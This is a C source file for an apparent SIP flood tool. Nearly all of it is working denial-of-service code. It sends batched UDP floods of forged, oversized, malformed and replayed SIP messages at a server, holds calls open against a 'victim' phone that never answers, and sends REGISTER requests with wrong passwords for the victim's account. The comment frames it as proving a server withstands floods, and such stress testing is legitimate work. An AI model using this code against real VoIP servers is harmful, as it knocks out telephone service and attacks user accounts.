/*
 * Floods of datagrams. A kind is one or more templates, in which every run of
 * eight '#' becomes a random number, or a function that writes each message.
 * Sixty-four leave with one system call, so that one core of the attacker
 * keeps more than one of the server busy; a slower flood would prove nothing.
 */
#define _GNU_SOURCE

#include "flood.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH     64
#define MARK      "########"
#define MARKS_MAX 8
#define HUGE      60000
#define DEAF_PORT 5070

struct source {
    int fd;
    struct login login;
};

struct flood {
    const struct options *o;
    const struct kind *kind;
    struct source *sources;
    char *texts[8]; /* the kind's templates with the server's address in them */
    size_t texts_n[8];
    unsigned n;
    uint64_t made;
    int deaf; /* socket of the victim's phone; 0: none */
};

struct kind {
    const char *name;
    const char *texts[8]; /* "%h" stands for the server, "%v" for the victim */
    bool fixed;           /* the same bytes each time: a retransmission */
    bool logged_in;       /* each source asks for a challenge before */
    bool rings;           /* the victim has a phone that never answers */
    bool huge_header, huge_body;
    size_t (*make)(struct flood *f, struct source *s, char *out);
};

#define REST(method, body)                                             \
    "Via: SIP/2.0/UDP 192.0.2.1:5060;rport;branch=z9hG4bK########\r\n" \
    "Max-Forwards: 70\r\nFrom: <sip:x########@%h>;tag=########\r\n"    \
    "Call-ID: ########@flood\r\nCSeq: 1 " method "\r\n" body

#define NOTHING "Content-Length: 0\r\n\r\n"

#define PLAIN(method, uri) method " " uri " SIP/2.0\r\nTo: <" uri ">\r\n" REST(method, NOTHING)

/* An INVITE by somebody whose password is right, to nobody: each final answer waits for an ACK that
 * never comes. */
static size_t make_invite(struct flood *f, struct source *s, char *out)
{
    char row[1024], uri[128];
    unsigned long long id = random_u64();

    snprintf(uri, sizeof uri, "sip:%s@%s", f->o->victim, f->o->host);
    login_row(&s->login, true, "INVITE", uri, true, row, sizeof row);
    return (size_t)snprintf(out, DATAGRAM_MAX,
                            "INVITE %s SIP/2.0\r\n"
                            "Via: SIP/2.0/UDP 192.0.2.1:5060;rport;branch=z9hG4bK%016llx\r\n"
                            "Max-Forwards: 70\r\nFrom: <sip:%s@%s>;tag=%llx\r\nTo: <%s>\r\n"
                            "Call-ID: %016llx\r\nCSeq: 1 INVITE\r\nContact: <sip:x@192.0.2.1>\r\n"
                            "%sContent-Length: 0\r\n\r\n",
                            uri, id, f->o->user, f->o->host, id >> 32, uri, id, row);
}

/* A REGISTER for the victim with a wrong password and a good nonce. */
static size_t make_guess(struct flood *f, struct source *s, char *out)
{
    char row[1024], uri[128];
    unsigned long long id = random_u64();
    struct login as = s->login;

    snprintf(as.user, sizeof as.user, "%s", f->o->victim);
    snprintf(uri, sizeof uri, "sip:%s", f->o->host);
    login_row(&as, false, "REGISTER", uri, false, row, sizeof row);
    s->login.nc = as.nc;
    return (size_t)snprintf(out, DATAGRAM_MAX,
                            "REGISTER %s SIP/2.0\r\n"
                            "Via: SIP/2.0/UDP 192.0.2.1:5060;rport;branch=z9hG4bK%016llx\r\n"
                            "Max-Forwards: 70\r\nFrom: <sip:%s@%s>;tag=%llx\r\nTo: <sip:%s@%s>\r\n"
                            "Call-ID: %016llx\r\nCSeq: 1 REGISTER\r\n%sContent-Length: 0\r\n\r\n",
                            uri, id, f->o->victim, f->o->host, id >> 32, f->o->victim, f->o->host,
                            id, row);
}

static const struct kind kinds[] = {
    {.name = "options", .texts = {PLAIN("OPTIONS", "sip:%h")}},
    {.name = "register",
     .texts = {"REGISTER sip:%h SIP/2.0\r\nTo: <sip:x########@%h>\r\n"
               "Contact: <sip:x########@192.0.2.1:5060>\r\n" REST("REGISTER", NOTHING)}},
    {.name = "callids",
     .texts = {PLAIN("INVITE", "sip:%v@%h"), PLAIN("MESSAGE", "sip:%v@%h"),
               PLAIN("SUBSCRIBE", "sip:%v@%h")}},
    {.name = "repeat", .fixed = true, .texts = {PLAIN("INVITE", "sip:%v@%h")}},
    {.name = "stray",
     .texts = {PLAIN("CANCEL", "sip:%v@%h"), PLAIN("ACK", "sip:%v@%h"),
               "SIP/2.0 200 OK\r\nTo: <sip:x@%h>;tag=########\r\n" REST("INVITE", NOTHING),
               "SIP/2.0 180 Ringing\r\nTo: <sip:x@%h>;tag=########\r\n" REST("INVITE", NOTHING),
               "BYE sip:%v@%h SIP/2.0\r\nTo: <sip:x@%h>;tag=########\r\n" REST("BYE", NOTHING)}},
    {.name = "nonces",
     .texts = {"REGISTER sip:%h SIP/2.0\r\nTo: <sip:%v@%h>\r\n"
               "Authorization: Digest username=\"%v\", realm=\"offhook\", uri=\"sip:%h\", "
               "nonce=\"000000000000########################################00000000\", "
               "response=\"00000000000000000000000000000000\", nc=00000001, qop=auth, "
               "cnonce=\"########\"\r\n" REST("REGISTER", NOTHING)}},
    {.name = "headers", .huge_header = true, .texts = {PLAIN("OPTIONS", "sip:%h")}},
    {.name = "bodies", .huge_body = true, .texts = {PLAIN("MESSAGE", "sip:%v@%h")}},
    {.name = "garbage",
     .texts = {"########################\r\n\r\n", "INVITE\r\n########\r\n\r\n",
               "INVITE sip:%v@%h SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.1;branch=z9hG4bK########\r\n"
               "CSeq: x ########\r\n\r\n"}},
    {.name = "invite", .logged_in = true, .make = make_invite},
    {.name = "ring", .logged_in = true, .rings = true, .make = make_invite},
    {.name = "guess", .logged_in = true, .make = make_guess},
};

/* Puts names into a template, and the padding that makes it huge. */
static char *prepare(const struct flood *f, const char *text, size_t *n)
{
    char *out = calloc(1, DATAGRAM_MAX + 1);
    size_t at = 0;

    for (; *text && at < 4096; text++) {
        if (text[0] == '%' && (text[1] == 'h' || text[1] == 'v')) {
            at += (size_t)snprintf(out + at, 128, "%s", text[1] == 'h' ? f->o->host : f->o->victim);
            text++;
        } else if (f->kind->huge_header && strncmp(text, NOTHING, strlen(NOTHING)) == 0) {
            at += (size_t)snprintf(out + at, 16, "Subject: ");
            memset(out + at, 'x', HUGE);
            at += HUGE + (size_t)snprintf(out + at + HUGE, 64, "\r\n%s", NOTHING);
            break;
        } else if (f->kind->huge_body && strncmp(text, NOTHING, strlen(NOTHING)) == 0) {
            at += (size_t)snprintf(out + at, 64, "Content-Length: %d\r\n\r\n", HUGE);
            memset(out + at, 'x', HUGE);
            at += HUGE;
            break;
        } else {
            out[at++] = *text;
        }
    }
    *n = at;
    return out;
}

/* Fills the marks of a message; its head is enough to look at. */
static void fill_marks(char *text, size_t n)
{
    size_t look = n < 2048 ? n : 2048;
    char hex[17];

    for (size_t i = 0; i + 8 <= look; i++) {
        if (text[i] != '#' || memcmp(text + i, MARK, 8) != 0)
            continue;
        snprintf(hex, sizeof hex, "%016llx", (unsigned long long)random_u64());
        memcpy(text + i, hex, 8);
        i += 7;
    }
}

static size_t make_template(struct flood *f, char *out)
{
    unsigned k = (unsigned)(f->made % f->n);

    memcpy(out, f->texts[k], f->texts_n[k]);
    if (!f->kind->fixed)
        fill_marks(out, f->texts_n[k]);
    return f->texts_n[k];
}

/* The victim's phone, which hears nothing: what is sent to it fills a socket that nobody reads. */
static bool deaf_phone(struct flood *f)
{
    struct options as = *f->o;
    struct login login;
    int little = 4096;

    f->deaf = source_socket(f->o->source_first + f->o->sources, DEAF_PORT);
    if (f->deaf < 0)
        return false;
    as.user = f->o->victim;
    if (login_begin(&as, f->deaf, &login) && login_bind(&as, f->deaf, &login)) {
        setsockopt(f->deaf, SOL_SOCKET, SO_RCVBUF, &little, sizeof little);
        return true;
    }
    fprintf(stderr, "flood: the victim has no phone\n");
    return false;
}

static bool open_sources(struct flood *f)
{
    for (unsigned i = 0; i < f->o->sources; i++) {
        f->sources[i].fd = source_socket(f->o->source_first + i, 0);
        if (f->sources[i].fd < 0) {
            perror("flood: a source's socket");
            return false;
        }
        if (f->kind->logged_in && !login_begin(f->o, f->sources[i].fd, &f->sources[i].login)) {
            fprintf(stderr, "flood: no challenge for a source\n");
            return false;
        }
    }
    return !f->kind->rings || deaf_phone(f);
}

/* Sends one batch from one source; returns how many left. */
static int send_batch(struct flood *f, struct source *s, unsigned want, char *bytes, size_t stride)
{
    struct mmsghdr hdr[BATCH];
    struct iovec iov[BATCH];

    memset(hdr, 0, sizeof hdr);
    for (unsigned i = 0; i < want; i++) {
        char *out = bytes + i * stride;

        iov[i].iov_base = out;
        iov[i].iov_len = f->kind->make ? f->kind->make(f, s, out) : make_template(f, out);
        hdr[i].msg_hdr.msg_iov = &iov[i];
        hdr[i].msg_hdr.msg_iovlen = 1;
        hdr[i].msg_hdr.msg_name = (void *)(uintptr_t)&f->o->to;
        hdr[i].msg_hdr.msg_namelen = sizeof f->o->to;
        f->made++;
    }
    return sendmmsg(s->fd, hdr, want, 0);
}

/* Sleeps until the rate allows the next message. */
static void pace(uint64_t start, uint64_t sent, uint64_t rate)
{
    uint64_t due = start + (uint64_t)((double)sent * 1e9 / (double)rate), now = clock_ns();

    if (due > now + 200000)
        nanosleep(&(struct timespec){.tv_nsec = (long)((due - now) % 1000000000)}, NULL);
}

static int run(struct flood *f)
{
    const struct options *o = f->o;
    uint64_t start = clock_ns(), end = start + (uint64_t)o->seconds * 1000000000, sent = 0;
    unsigned batch = o->rate && o->rate < 64000 ? (unsigned)(o->rate / 1000 + 1) : BATCH;
    size_t stride = f->kind->huge_header || f->kind->huge_body ? DATAGRAM_MAX : 4096;
    char *bytes = malloc(BATCH * (size_t)DATAGRAM_MAX);
    double seconds;

    if (!bytes || batch > BATCH)
        return 1;
    for (unsigned turn = 0; clock_ns() < end; turn = (turn + 1) % o->sources) {
        int left = send_batch(f, &f->sources[turn], batch, bytes, stride);

        sent += left > 0 ? (unsigned)left : 0;
        if (o->rate)
            pace(start, sent, o->rate);
    }
    seconds = (double)(clock_ns() - start) / 1e9;
    printf("%s: %llu datagrams from %u sources in %.1f s, %.0f a second\n", o->kind,
           (unsigned long long)sent, o->sources, seconds, (double)sent / seconds);
    free(bytes);
    return 0;
}

int flood_udp(const struct options *o)
{
    struct flood f = {.o = o};
    int status = 1;

    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++) {
        if (strcmp(kinds[i].name, o->kind) == 0)
            f.kind = &kinds[i];
    }
    if (!f.kind)
        return 2;
    for (; f.n < 8 && f.kind->texts[f.n]; f.n++) {
        f.texts[f.n] = prepare(&f, f.kind->texts[f.n], &f.texts_n[f.n]);
        if (f.kind->fixed)
            fill_marks(f.texts[f.n], f.texts_n[f.n]);
    }
    f.sources = calloc(o->sources, sizeof *f.sources);
    if (f.sources && open_sources(&f))
        status = run(&f);
    for (unsigned i = 0; f.sources && i < o->sources; i++) {
        if (f.sources[i].fd > 0)
            close(f.sources[i].fd);
    }
    if (f.deaf > 0)
        close(f.deaf);
    for (unsigned i = 0; i < f.n; i++)
        free(f.texts[i]);
    free(f.sources);
    return status;
}
